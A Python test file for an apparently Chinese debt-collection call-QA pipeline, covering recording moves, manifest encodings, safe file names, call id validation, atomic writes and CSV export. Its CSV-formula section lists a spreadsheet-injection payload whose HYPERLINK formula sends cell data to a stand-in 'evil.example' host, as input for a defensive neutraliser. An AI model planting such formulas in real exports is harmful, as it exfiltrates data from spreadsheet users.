"""Safe to run on a real archive (issue 11): moves, manifest encodings and re-keys, collision-free
file names, call id validation, absolute manifest paths, atomic CLI output, CSV formulas, and
the temporary Prefect server dying with `callqa run`."""
from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import duckdb
import pytest
from typer.testing import CliRunner

from callqa.cli import app
from core.csvsafe import neutralise_cell, restore_cell, write_csv
from core.filenames import safe_name
from core.files import atomic_write, sha256_file
from flows.discovery import decode_manifest, discover, discover_archive, read_manifest
from tests.helpers.warehouse_data import processed
from warehouse.store import Warehouse

TZ = "Asia/Shanghai"
CLI = [sys.executable, "-m", "callqa.cli"]
runner = CliRunner()
TEAM, COLLECTOR = "催收一组", "张伟"


def recording(repo_root: Path, n: int) -> Path:
    return repo_root / "samples" / "calls" / f"dev_call_{n:02d}.stereo.wav"


def land_file(db: Path, call_id: str, path: Path, **meta) -> None:
    """Land a call for ``path`` (its real hash, size and place) with three utterances and a finding."""
    result = processed(call_id, sha256_file(path))
    result.call.path, result.call.size_bytes = str(path), path.stat().st_size
    for key, value in meta.items():
        setattr(result.call, key, value)
    with Warehouse(db) as wh:
        wh.land([result], [], wh.start_run("first", {}))


def reconcile_run(archive: Path, db: Path, cfg, manifest: Path | str | None = None):
    """One run's discovery, move handling and plan, as the nightly flow does them."""
    from flows.nightly import apply_moves, plan

    with Warehouse(db) as wh:
        run = wh.start_run(str(archive), {})
        landed = wh.landed_files()
        found = discover_archive(archive, cfg.archive, manifest=manifest, default_tz=TZ,
                                 prefer={row["path"] for row in landed.values()})
        calls, reprocess = apply_moves(found, landed, wh, run)
        todo, _ = plan(calls, wh, retry_failed=False)
        return found, calls, todo, reprocess, wh.run_summary(run)


def rows(db: Path, sql: str, params=()):
    con = duckdb.connect(str(db), read_only=True)
    try:
        return con.execute(sql, list(params)).fetchall()
    finally:
        con.close()


def call_counts(db: Path) -> dict[str, dict[str, int]]:
    out: dict[str, dict[str, int]] = {}
    for table in ("calls", "utterances", "findings", "call_metrics", "reviews"):
        for call_id, n in rows(db, f"SELECT call_id, count(*) FROM {table} GROUP BY 1"):
            out.setdefault(call_id, {})[table] = n
    return out


# -- 1. moves ----------------------------------------------------------------------------------
def test_moved_recording_keeps_its_call_and_is_not_processed_again(repo_root, cfg, tmp_path):
    archive, db = tmp_path / "archive", tmp_path / "w.duckdb"
    archive.mkdir()
    shutil.copy(recording(repo_root, 3), archive / "a.wav")
    land_file(db, "a", archive / "a.wav")
    landed_at = rows(db, "SELECT landed_at, run_id FROM calls")
    before = call_counts(db)

    (archive / "2026" / "11").mkdir(parents=True)
    os.rename(archive / "a.wav", archive / "2026" / "11" / "b.wav")
    found, calls, todo, _, summary = reconcile_run(archive, db, cfg)
    assert [c.call_id for c in found.calls] == ["2026/11/b"]  # a new name by its path...
    assert [c.call_id for c in calls] == ["a"] and todo == []  # ...is the landed call, moved
    assert rows(db, "SELECT call_id, path, size_bytes FROM calls") == [
        ("a", str(archive / "2026" / "11" / "b.wav"), (archive / "2026" / "11" / "b.wav").stat().st_size)]
    assert call_counts(db) == before and rows(db, "SELECT landed_at, run_id FROM calls") == landed_at
    assert summary["moved"] == 1 and summary["rekeyed"] == 0

    # the same again: nothing moved, nothing to do
    _, _, todo, _, summary = reconcile_run(archive, db, cfg)
    assert todo == [] and summary["moved"] == 0

    # a copy in another archive while the landed file is still there: a duplicate, not landed
    other = tmp_path / "other"
    other.mkdir()
    shutil.copy(archive / "2026" / "11" / "b.wav", other / "copy.wav")
    found, _, todo, _, _ = reconcile_run(other, db, cfg)
    assert todo == [] and call_counts(db) == before
    assert [(f.call_id, f.reason) for f in found.failures] == [("copy", "duplicate")]
    assert "landed call a" in found.failures[0].message

    # a copy in the same archive that sorts first: the landed file keeps its call
    shutil.copy(archive / "2026" / "11" / "b.wav", archive / "0-first.wav")
    found, _, todo, _, _ = reconcile_run(archive, db, cfg)
    assert todo == [] and [(f.call_id, f.reason) for f in found.failures] == [("0-first", "duplicate")]
    assert rows(db, "SELECT path FROM calls") == [(str(archive / "2026" / "11" / "b.wav"),)]


@pytest.mark.slow
@pytest.mark.flow
def test_nightly_moves_and_rekeys_without_transcribing_again(harness, repo_root, tmp_path):
    from flows.nightly import nightly

    archive, db, config = tmp_path / "archive", tmp_path / "w.duckdb", str(repo_root / "tests" / "data" / "test.toml")
    archive.mkdir()
    shutil.copy(recording(repo_root, 3), archive)
    first = nightly(str(archive), db=str(db), config_path=config)
    assert (first["landed"], first["moved"], first["rekeyed"]) == (1, 0, 0)
    (landed_at, n_utts), = rows(db, "SELECT landed_at, (SELECT count(*) FROM utterances) FROM calls")

    (archive / "2026").mkdir()
    os.rename(archive / "dev_call_03.stereo.wav", archive / "2026" / "dev_call_03.stereo.wav")
    (archive / "manifest.csv").write_bytes(
        f"call_id,path,collector_id,team\r\ndev_call_03,2026/dev_call_03.stereo.wav,{COLLECTOR},{TEAM}\r\n".encode("gbk"))
    second = nightly(str(archive), db=str(db), config_path=config)
    assert (second["landed"], second["failed"], second["skipped"], second["moved"], second["rekeyed"]) == (0, 0, 1, 1, 1)
    assert rows(db, "SELECT call_id, path, collector_id, team, landed_at FROM calls") == [
        ("dev_call_03", str(archive / "2026" / "dev_call_03.stereo.wav"), COLLECTOR, TEAM, landed_at)]
    assert rows(db, "SELECT count(*), count(DISTINCT call_id) FROM utterances") == [(n_utts, 1)]


# -- 2. manifest encodings, and a fixed manifest re-keys instead of landing again -----------------
MANIFEST_ROWS = [["call_id", "path", "collector_id", "team", "campaign"],
                 ["dev_call_03", "dev_call_03.stereo.wav", COLLECTOR, TEAM, "春节回访"],
                 ["dev_call_05", "dev_call_05.stereo.wav", "李娜", TEAM, "逾期三十天"]]


def manifest_text(delimiter: str = ",") -> str:
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator="\r\n").writerows(MANIFEST_ROWS)
    return buf.getvalue()


@pytest.mark.parametrize("encoding,delimiter", [
    ("gbk", ","), ("gb18030", ","), ("utf-16", "\t"), ("utf-16", ","), ("utf-16-be-bom", ","),
    ("utf-8-sig", ","), ("utf-8", ","), ("utf-16-le", ",")])
def test_manifest_in_excel_encodings(repo_root, tmp_path, encoding, delimiter):
    archive = tmp_path / "archive"
    archive.mkdir()
    for n in (3, 5):
        shutil.copy(recording(repo_root, n), archive)
    text = manifest_text(delimiter)
    raw = (b"\xfe\xff" + text.encode("utf-16-be")) if encoding == "utf-16-be-bom" else text.encode(encoding)
    if encoding == "utf-16":  # Python writes the BOM in the machine's order: Excel's is little-endian
        raw = b"\xff\xfe" + text.encode("utf-16-le")
    (archive / "manifest.csv").write_bytes(raw)
    calls, failures = read_manifest(archive / "manifest.csv", archive, TZ)
    assert failures == []
    got = {c.call_id: (c.collector_id, c.team, c.campaign) for c in calls.values()}
    assert got == {"dev_call_03": (COLLECTOR, TEAM, "春节回访"), "dev_call_05": ("李娜", TEAM, "逾期三十天")}


def test_unreadable_manifest_names_the_encodings_tried(repo_root, tmp_path):
    archive = tmp_path / "archive"
    archive.mkdir()
    shutil.copy(recording(repo_root, 3), archive)
    (archive / "manifest.csv").write_bytes(b"call_id,path\r\n\x80\xff\x80,dev_call_03.stereo.wav\r\n")
    calls, failures = discover(archive, _archive_settings(), default_tz=TZ)
    assert [c.call_id for c in calls] == ["dev_call_03.stereo"]  # lands without metadata
    assert [(f.stage, f.reason) for f in failures] == [("manifest", "unreadable_manifest")]
    assert all(name in failures[0].message for name in ("UTF-8", "UTF-16", "GB18030"))
    assert decode_manifest(manifest_text().encode("gbk")) == (manifest_text(), "gb18030")


def _archive_settings():
    from core.settings import ArchiveSettings

    return ArchiveSettings()


def test_fixed_manifest_rekeys_the_landed_call(repo_root, cfg, tmp_path):
    """A GBK manifest was unreadable, so the call landed under its file-name id; once the
    manifest is readable the call is renamed to the manifest's id and gets its metadata:
    one copy, its rows, findings and reviews kept, nothing processed again."""
    from warehouse.review import Verdict, record

    archive, db = tmp_path / "archive", tmp_path / "w.duckdb"
    archive.mkdir()
    shutil.copy(recording(repo_root, 3), archive)
    land_file(db, "dev_call_03.stereo", archive / "dev_call_03.stereo.wav", collector_id=None, team=None)
    record(db, Verdict("dev_call_03.stereo", "confirmed", "qa", "dev_call_03.stereo#0"))
    record(db, Verdict("dev_call_03.stereo", "clean", "qa"))
    before = call_counts(db)["dev_call_03.stereo"]

    (archive / "manifest.csv").write_bytes(manifest_text().encode("gbk"))
    found, calls, todo, reprocess, summary = reconcile_run(archive, db, cfg)
    assert [c.call_id for c in calls] == ["dev_call_03"] and todo == [] and reprocess == set()
    assert call_counts(db) == {"dev_call_03": before}  # exactly one copy, every row kept
    assert rows(db, "SELECT collector_id, team, campaign FROM calls") == [(COLLECTOR, TEAM, "春节回访")]
    assert rows(db, "SELECT finding_id FROM findings") == [("dev_call_03#0",)]
    assert rows(db, "SELECT call_id, finding_id, verdict FROM reviews ORDER BY verdict") == [
        ("dev_call_03", None, "clean"), ("dev_call_03", "dev_call_03#0", "confirmed")]
    assert rows(db, "SELECT verdict FROM flagged_findings") == [("confirmed",)]  # the verdict still applies
    assert summary["rekeyed"] == 1 and summary["moved"] == 0

    # re-saved as UTF-16 with another team: the metadata follows, still one copy
    MANIFEST_ROWS[1][3] = "催收二组"
    try:
        (archive / "manifest.csv").write_bytes(b"\xff\xfe" + manifest_text("\t").encode("utf-16-le"))
        _, _, todo, _, summary = reconcile_run(archive, db, cfg)
    finally:
        MANIFEST_ROWS[1][3] = TEAM
    assert todo == [] and summary["rekeyed"] == 0
    assert rows(db, "SELECT call_id, team FROM calls") == [("dev_call_03", "催收二组")]

    # the manifest gives other channel roles: the call is processed again (roles shape every row)
    (archive / "manifest.csv").write_text("call_id,path,channel0_role,channel1_role\n"
                                          "dev_call_03,dev_call_03.stereo.wav,customer,collector\n", encoding="utf-8")
    _, _, todo, reprocess, _ = reconcile_run(archive, db, cfg)
    assert reprocess == {"dev_call_03"}


def test_rekey_is_one_transaction_and_replaces_an_older_version(tmp_path):
    db = tmp_path / "w.duckdb"
    with Warehouse(db) as wh:
        run = wh.start_run("x", {})
        wh.land([processed("file-name-id", "h1", n_utts=4), processed("C1", "old-bytes", n_utts=2)], [], run)
    before = call_counts(db)
    script = ("import sys; from warehouse.store import Warehouse\n"
              "with Warehouse(sys.argv[1]) as wh: wh.rekey_call('file-name-id', 'C1', wh.start_run('y', {}))\n")
    env = {**os.environ, "CALLQA_FAILPOINT": "rekey-before-commit", "PYTHONPATH": str(Path(__file__).parents[1])}
    killed = subprocess.run([sys.executable, "-c", script, str(db)], env=env, capture_output=True, timeout=120)
    assert killed.returncode == -signal.SIGKILL and call_counts(db) == before  # killed: nothing changed
    with Warehouse(db) as wh:
        wh.rekey_call("file-name-id", "C1", wh.start_run("y", {}))
    assert call_counts(db) == {"C1": before["file-name-id"]}
    assert rows(db, "SELECT call_id, sha256 FROM calls") == [("C1", "h1")]
    assert rows(db, "SELECT finding_id FROM findings") == [("C1#0",)]


# -- 3. file names ------------------------------------------------------------------------------
def test_safe_names_are_collision_free_and_safe():
    ids = ["a/b", "a__b", "a\\b", "A/b", "..hidden", "x\x00y", "x\ny", "x y", "x_y", "/abs", "a" * 300,
           "催" * 300, "催" * 299 + "收", "con:prn?", ""]
    names = [safe_name(i) for i in ids]
    assert len(set(names)) == len(ids) and len({n.lower() for n in names}) == len(ids)
    assert names[0].startswith("a__b-") and names[1].startswith("a__b-") and names == [safe_name(i) for i in ids]
    for name in names:
        assert "/" not in name and "\\" not in name and not name.startswith(".")
        assert not any(ord(ch) < 32 or ch in '<>:"|?* ' for ch in name)
        assert len(name.encode("utf-8")) <= 109 and name.rsplit("-", 1)[0]  # 100-byte stem, 8 hex digits


def test_two_calls_never_share_export_files_or_report_pages(repo_root, cfg, tmp_path):
    from callqa.report import build_report
    from warehouse.export import export

    db = tmp_path / "w.duckdb"
    sources = {"a/b": recording(repo_root, 3), "a__b": recording(repo_root, 5)}
    for call_id, path in sources.items():
        land_file(db, call_id, path, started_at=None)
    export(db, tmp_path / "out", transcripts=True)
    assert len(list((tmp_path / "out" / "vtt").glob("*.vtt"))) == 2
    assert len(list((tmp_path / "out" / "rttm").glob("*.rttm"))) == 2
    build_report(db, tmp_path / "report", cfg)
    for call_id, path in sources.items():
        page = (tmp_path / "report" / "calls" / f"{safe_name(call_id)}.html").read_text(encoding="utf-8")
        assert f'src="../audio/{safe_name(call_id)}.wav"' in page
        assert (tmp_path / "report" / "audio" / f"{safe_name(call_id)}.wav").read_bytes() == path.read_bytes()


# -- 4. call ids ----------------------------------------------------------------------------------
def test_bad_call_ids_fail_at_discovery(repo_root, cfg, tmp_path):
    archive = tmp_path / "archive"
    deep = archive / ("d" * 150)
    deep.mkdir(parents=True)
    shutil.copy(recording(repo_root, 1), deep / ("f" * 150 + ".wav"))      # id of 301 characters
    shutil.copy(recording(repo_root, 2), archive / "line\nbreak.wav")      # a newline in the name
    shutil.copy(recording(repo_root, 3), archive / "nul.wav")
    shutil.copy(recording(repo_root, 4), archive / "good.wav")
    (archive / "manifest.csv").write_text("call_id,path\nx\x00y,nul.wav\n", encoding="utf-8")
    calls, failures = discover(archive, cfg.archive, default_tz=TZ)
    assert [c.call_id for c in calls] == ["good"]
    bad = [f for f in failures if f.reason == "bad_call_id"]
    assert len(bad) == 3 and all(f.stage == "discover" and f.call_id is None for f in bad)
    assert any("301 characters" in f.message for f in bad) and any("U+000A" in f.message for f in bad)
    assert any("U+0000" in f.message for f in bad) and all("\n" not in f.message and "\x00" not in f.message
                                                           for f in bad)
    with Warehouse(tmp_path / "w.duckdb") as wh:  # recorded once, no calls row, never processed
        wh.land([], failures, wh.start_run(str(archive), {}))
        assert wh.known_calls() == {} and wh.con.execute(
            "SELECT count(*) FROM failures WHERE reason = 'bad_call_id'").fetchone()[0] == 3


# -- 5. relative --manifest -------------------------------------------------------------------------
def test_relative_manifest_stores_absolute_paths(repo_root, cfg, tmp_path, monkeypatch):
    archive = tmp_path / "archive"
    archive.mkdir()
    shutil.copy(recording(repo_root, 3), archive)
    (archive / "list.csv").write_text("call_id,path\nc3,dev_call_03.stereo.wav\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    calls, failures = discover("archive", cfg.archive, manifest="archive/list.csv", default_tz=TZ)
    assert failures == [] and [c.call_id for c in calls] == ["c3"]
    assert calls[0].path == str(archive / "dev_call_03.stereo.wav") and os.path.isabs(calls[0].path)


# -- 6. atomic output ---------------------------------------------------------------------------------
def test_analyze_text_never_overwrites_its_input(tmp_path):
    src = tmp_path / "in.jsonl"
    original = json.dumps({"role": "customer", "text": "你们再打来我就报警"}, ensure_ascii=False) + "\n"
    src.write_text(original, encoding="utf-8")
    (tmp_path / "link.jsonl").symlink_to(src)
    for target in (src, tmp_path / "link.jsonl", tmp_path / "sub" / ".." / "in.jsonl"):
        result = runner.invoke(app, ["analyze-text", str(src), "-o", str(target)])
        assert result.exit_code == 2 and "is the input file" in result.output, result.output
        assert src.read_text(encoding="utf-8") == original


@pytest.mark.slow  # a subprocess of its own (full suite only)
def test_analyze_text_killed_mid_write_leaves_the_old_output(tmp_path):
    src, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    src.write_text("".join(json.dumps({"role": "customer", "text": f"第{i}句"}, ensure_ascii=False) + "\n"
                           for i in range(5)), encoding="utf-8")
    out.write_text("earlier results\n", encoding="utf-8")
    env = {**os.environ, "CALLQA_FAILPOINT": "annotate-row:3", "PYTHONPATH": str(Path(__file__).parents[1])}
    result = subprocess.run([*CLI, "analyze-text", str(src), "-o", str(out)], env=env, capture_output=True,
                            timeout=120)
    assert result.returncode == -signal.SIGKILL
    assert out.read_text(encoding="utf-8") == "earlier results\n"
    result = subprocess.run([*CLI, "analyze-text", str(src), "-o", str(out)], capture_output=True, timeout=120,
                            env={**env, "CALLQA_FAILPOINT": ""})
    assert result.returncode == 0 and len(out.read_text(encoding="utf-8").splitlines()) == 5


def test_atomic_write_keeps_the_old_file_on_error(tmp_path):
    target = tmp_path / "t.txt"
    target.write_text("old")
    target.chmod(0o640)
    with pytest.raises(RuntimeError):
        with atomic_write(target) as fh:
            fh.write("half")
            raise RuntimeError("stop")
    assert target.read_text() == "old" and [p.name for p in tmp_path.iterdir()] == ["t.txt"]
    with atomic_write(target) as fh:
        fh.write("new")
    assert target.read_text() == "new" and (target.stat().st_mode & 0o777) == 0o640


def test_diarize_refuses_to_write_over_its_recording(repo_root, tmp_path):
    audio = tmp_path / "call.wav"
    shutil.copy(recording(repo_root, 3), audio)
    result = runner.invoke(app, ["diarize", str(audio), "--rttm", str(audio)])
    assert result.exit_code == 2 and "is the input file" in result.output
    assert audio.read_bytes() == recording(repo_root, 3).read_bytes()


# -- 7. CSV formulas -----------------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点这里")', "+86 138", "-1+1", "@SUM(A1)", "\tTAB", "\rCR",
            "'quoted", "plain 张伟"]


def test_cells_are_neutralised_and_read_back():
    for value in FORMULAS:
        cell = neutralise_cell(value)
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) and restore_cell(cell) == value
    assert neutralise_cell(None) == "" and neutralise_cell(1.5) == "1.5" and restore_cell(None) is None


def test_sample_csv_has_no_formulas_and_imports_back(tmp_path):
    from warehouse.review import import_csv

    db = tmp_path / "w.duckdb"
    with Warehouse(db) as wh:
        calls = []
        for k, value in enumerate(FORMULAS[:4]):
            result = processed(f"{value[:1]}call{k}", f"h{k}")
            result.call.collector_id, result.call.team, result.call.campaign = value, value, FORMULAS[4]
            calls.append(result)
        wh.land(calls, [], wh.start_run("x", {}))
    sheet = tmp_path / "sample.csv"
    result = runner.invoke(app, ["sample", "--db", str(db), "-n", "10", "--csv", str(sheet)])
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(sheet.open(encoding="utf-8", newline="")) for cell in row]
    assert len(cells) > 40 and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + FORMULAS[0] in cells
    # filled in and imported: the call ids come back as they were
    filled = [dict(r, verdict="confirmed") for r in csv.DictReader(sheet.open(encoding="utf-8", newline=""))]
    write_csv(sheet, list(filled[0]), [{k: restore_cell(v) for k, v in r.items()} for r in filled])
    assert import_csv(db, sheet, "qa").added == 4
    assert sorted(r[0] for r in rows(db, "SELECT call_id FROM reviews")) == sorted(c.call.call_id for c in calls)
    refused = runner.invoke(app, ["sample", "--db", str(db), "--csv", str(db)])
    assert refused.exit_code == 2 and "is the database" in " ".join(refused.output.split())


# -- 8. the temporary Prefect server dies with `callqa run` ------------------------------------------------
def _children(pid: int) -> list[int]:
    out = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                stat = (entry / "stat").read_text()
            except OSError:
                continue
            if int(stat.rsplit(")", 1)[1].split()[1]) == pid:
                out.append(int(entry.name))
    return out


def _descendants(pid: int) -> list[int]:
    found, todo = [], [pid]
    while todo:
        kids = _children(todo.pop())
        found += kids
        todo += kids
    return found


def _cmdline(pid: int) -> list[str]:
    try:
        return (Path("/proc") / str(pid) / "cmdline").read_bytes().decode(errors="replace").split("\0")
    except OSError:
        return []


def _alive(pid: int) -> bool:
    try:
        stat = (Path("/proc") / str(pid) / "stat").read_text()
    except OSError:
        return False
    return stat.rsplit(")", 1)[1].split()[0] not in ("Z", "X")


@pytest.mark.slow
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_killed_run_leaves_no_prefect_server(repo_root, tmp_path):
    env = {k: v for k, v in os.environ.items() if not k.startswith("PREFECT_")}
    env.update(PREFECT_HOME=str(tmp_path / "prefect"), PYTHONPATH=str(repo_root))
    proc = subprocess.Popen([*CLI, "run", str(repo_root / "samples" / "calls"), "--db", str(tmp_path / "w.duckdb"),
                             "-c", str(repo_root / "tests" / "data" / "test.toml")], cwd=tmp_path, env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    server, deadline = None, time.monotonic() + 240
    try:
        while time.monotonic() < deadline and proc.poll() is None:
            for pid in _descendants(proc.pid):
                args = _cmdline(pid)
                if "prefect.server.api.server:create_app" in args:
                    port = args[args.index("--port") + 1]
                    try:
                        with urllib.request.urlopen(f"http://127.0.0.1:{port}/api/health", timeout=2) as r:
                            if r.status == 200:
                                server = pid
                    except OSError:
                        pass
            if server:
                break
            time.sleep(0.5)
        assert server, "the temporary server never came up"
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait()
        deadline = time.monotonic() + 15
        while _alive(server) and time.monotonic() < deadline:
            time.sleep(0.2)
        assert not _alive(server), "the temporary Prefect server outlived the killed run"
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        if server and _alive(server):  # the orphan this test made (before the fix)
            os.kill(server, signal.SIGKILL)
